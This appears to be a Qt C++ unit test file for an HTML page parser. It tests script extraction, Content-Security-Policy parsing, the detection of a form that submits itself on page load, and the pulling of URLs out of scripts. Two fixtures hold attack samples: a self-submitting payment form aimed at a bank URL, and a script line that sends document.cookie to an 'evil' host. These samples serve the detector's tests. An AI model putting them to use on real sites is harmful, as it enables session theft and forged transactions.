#include "core/web/page.h"

#include <QTest>

using namespace roundtrip;

class TestPage : public QObject {
    Q_OBJECT

  private slots:
    void scriptsAreFound_data();
    void scriptsAreFound();
    void aFormSubmitsItself();
    void anotherFormWaitsForAPerson();
    void aPolicyForbidsInlineScripts_data();
    void aPolicyForbidsInlineScripts();
    void anAddressStandsInAScript();
};

void TestPage::scriptsAreFound_data() {
    QTest::addColumn<QString>("html");
    QTest::addColumn<QString>("scripts");
    QTest::newRow("none") << "<p>1 < 2 <b"
                          << "";
    QTest::newRow("one") << "<p><script>run()</script></p>"
                         << "run()";
    QTest::newRow("two") << "<script>a</script> <SCRIPT type='x'> b </SCRIPT >"
                         << "a|b";
    QTest::newRow("never closed") << "<script>a"
                                  << "a";
    QTest::newRow("from a file") << R"(<script src="a.js"></script>)"
                                 << "";
    QTest::newRow("in a comment") << "<!-- <script>a</script> -->"
                                  << "";
    QTest::newRow("in a text field") << "<textarea><script>a</script></textarea>"
                                     << "";
    QTest::newRow("in a value") << R"(<input value="<script>a</script>">)"
                                << "";
    QTest::newRow("escaped") << "&lt;script&gt;a&lt;/script&gt;"
                             << "";
    QTest::newRow("after a broken value") << R"(<input value="><script>a</script>)"
                                          << "";
}

void TestPage::scriptsAreFound() {
    QFETCH(QString, html);
    QFETCH(QString, scripts);
    QStringList found;
    for (const std::string& script : readPage(html.toStdString()).scripts)
        found << QString::fromStdString(script);
    QCOMPARE(found.join('|'), scripts);
}

void TestPage::aFormSubmitsItself() {
    const Page page = readPage(R"html(<body onload="document.forms[0].submit()">
        <form action='https://bank/pay' METHOD=POST>
        <input name=to value="a &amp; b"><input name="amount" value='7'><input value="nameless">
        </form><form action="/second"><input name="x"></form>)html");
    QVERIFY(page.submitted);
    QCOMPARE(page.submitted->action, std::string("https://bank/pay"));
    QVERIFY(page.submitted->isPost);
    const std::vector<std::pair<std::string, std::string>> fields{{"to", "a & b"}, {"amount", "7"}};
    QVERIFY(page.submitted->fields == fields);
}

void TestPage::anotherFormWaitsForAPerson() {
    QVERIFY(!readPage("<body><form action='/pay' method='post'></form>").submitted);
    QVERIFY(!readPage("<body onload='document.forms[0].submit()'>no form").submitted);
}

void TestPage::aPolicyForbidsInlineScripts_data() {
    QTest::addColumn<QString>("policy");
    QTest::addColumn<bool>("allowed");
    QTest::newRow("none") << "" << true;
    QTest::newRow("of images") << "img-src 'self'" << true;
    QTest::newRow("of all") << "default-src 'self'" << false;
    QTest::newRow("of scripts") << "default-src * 'unsafe-inline'; script-src 'self'" << false;
    QTest::newRow("scripts win") << "default-src 'self'; Script-Src 'unsafe-inline'" << true;
}

void TestPage::aPolicyForbidsInlineScripts() {
    QFETCH(QString, policy);
    QFETCH(bool, allowed);
    QCOMPARE(allowsInlineScripts(policy.toStdString()), allowed);
}

void TestPage::anAddressStandsInAScript() {
    QCOMPARE(addressIn("fetch('https://evil/steal?c=' + document.cookie)"),
             std::string("https://evil/steal?c="));
    QCOMPARE(addressIn("alert(1)"), std::string());
}

QTEST_APPLESS_MAIN(TestPage)
#include "tst_page.moc"
